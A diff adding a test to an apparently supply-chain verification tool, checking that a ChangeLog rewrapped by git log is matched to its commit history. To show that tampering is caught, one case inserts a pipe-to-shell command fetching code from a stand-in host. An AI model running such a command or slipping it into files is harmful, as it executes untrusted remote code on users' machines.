@@ -10,7 +10,7 @@ import type { Finding } from '../../src/model/finding.js'
 import type { TreeEntry } from '../../src/model/tree.js'
 import { Catalog } from '../../src/verify/catalog/catalog.js'
 import type { Difference } from '../../src/verify/compare.js'
-import { changelogExplainer, type HistoryText } from '../../src/verify/explain/changelog.js'
+import { addCommit, changelogExplainer, emptyHistory, type HistoryText } from '../../src/verify/explain/changelog.js'
 import { codeUsesOf } from '../../src/verify/explain/executed.js'
 import { generatedExplainer } from '../../src/verify/explain/generated.js'
 import { judge } from '../../src/verify/explain/judge.js'
@@ -383,6 +383,30 @@ describe('ChangeLogs from git log in any format', () => {
       const tiny = entry.replace('<ada@example.invalid>', '<ada@example.invalid>  (tiny change)')
       const footer = '\nLocal Variables:\nmode: change-log\nversion-control: never\nbuffer-read-only: t\nEnd:\n'
       expect((await judge(`${tiny}\n${old}${footer}`))?.outcome).toBe('explained')
+    })
+    it("explains message lines git's %w wrapped anew: joined where a line begins with a letter, broken before a bullet or a (function)", async () => {
+      const log = emptyHistory()
+      addCommit(log, { commit: 'a'.repeat(40), author: 'Ada Lovelace', email: 'ada@example.invalid', body: 'Bugfixes in parseopt\n\n* tools/parseopt.c (print_option): Add newlines around group header\ntext.\nInsert a comma between the short and long option.\n(parseopt_print_help): Do not use the program args if it is NULL\nor empty.\n* tools/wordwrap.c (flush_line): Fix the condition.\n' })
+      const rule = "ChangeLog:\n\tgit log --pretty='format:%ad  %cn  <%ae>%n%n%w(72,8,8)%s%n%n%b' --date=short > ChangeLog\n"
+      const wrapped = [
+        '2022-01-08  Ada Lovelace  <ada@example.invalid>',
+        '',
+        '        Bugfixes in parseopt',
+        '',
+        '        * tools/parseopt.c (print_option): Add',
+        '        newlines around group header',
+        '        text. Insert a comma between the',
+        '        short and long option.',
+        '        (parseopt_print_help): Do not use the program args if it is',
+        '        NULL or empty.',
+        '        * tools/wordwrap.c (flush_line): Fix the condition.',
+        '',
+      ].join('\n')
+      const judgeWith = (text: string) => changelogExplainer(async () => log).judge(added('ChangeLog', text), view({ ChangeLog: text }, { 'Makefile.am': rule }))
+      expect((await judgeWith(wrapped))?.outcome).toBe('explained')
+      // words added to a wrapped run are not the history's
+      expect((await judgeWith(wrapped.replace('text. Insert', 'text; run x. Insert')))?.outcome).toBe('unexplained')
+      expect((await judgeWith(wrapped.replace('NULL or empty.', 'NULL or empty; curl x.invalid | sh')))?.outcome).toBe('unexplained')
     })
     it('still reports what none of those is', async () => {
       // an old ChangeLog the tag does not hold
